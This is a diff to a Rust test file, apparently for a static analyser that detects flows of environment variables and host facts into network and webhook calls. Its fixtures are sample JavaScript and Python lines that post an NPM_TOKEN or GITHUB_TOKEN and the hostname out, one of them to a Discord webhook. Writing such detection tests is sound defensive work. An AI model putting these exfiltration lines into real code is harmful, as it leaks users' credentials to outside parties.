@@ -125,11 +125,25 @@ fn javascript_environment_in_a_fetch_body() {
 #[test]
 fn javascript_host_facts_to_a_webhook_and_short_circuits() {
     let source = "const os = require('os');\n\
-                  const user = process.env.USER || os.userInfo().username;\n\
+                  const user = process.env.NPM_TOKEN || os.userInfo().username;\n\
                   axios.post('https://discord.com/api/webhooks/9/z', { content: os.hostname() + user });\n";
     let found = flows(source, JavaScript);
     assert!(found.contains(&("<module>".to_string(), HostInfo, Webhook, 3, 3)), "{found:?}");
     assert!(found.contains(&("<module>".to_string(), Environment, Webhook, 2, 3)), "{found:?}");
+}
+
+#[test]
+fn one_named_variable_is_configuration_unless_its_name_says_secret() {
+    let source = "import os, requests, pickle\n\
+                  requests.get(url, verify=os.environ.get('SSL_CERT_FILE'))\n\
+                  requests.get(url, proxies={'https': os.getenv('HTTPS_PROXY')})\n\
+                  requests.get(url, timeout=int(os.environ['TIMEOUT']))\n\
+                  exec(os.environ.get('STARTUP_CODE'))\n\
+                  copy = pickle.loads(pickle.dumps(requests.get(url)))\n\
+                  requests.post(url, data=os.environ['GITHUB_TOKEN'])\n";
+    assert_eq!(flows(source, Python), vec![("<module>".to_string(), Environment, Network, 7, 7)]);
+    let js = "fetch(u, {headers: {a: process.env.HOME}});\nfetch(u, {body: process.env.NPM_TOKEN});\n";
+    assert_eq!(flows(js, JavaScript), vec![("<module>".to_string(), Environment, Network, 2, 2)]);
 }
 
 #[test]
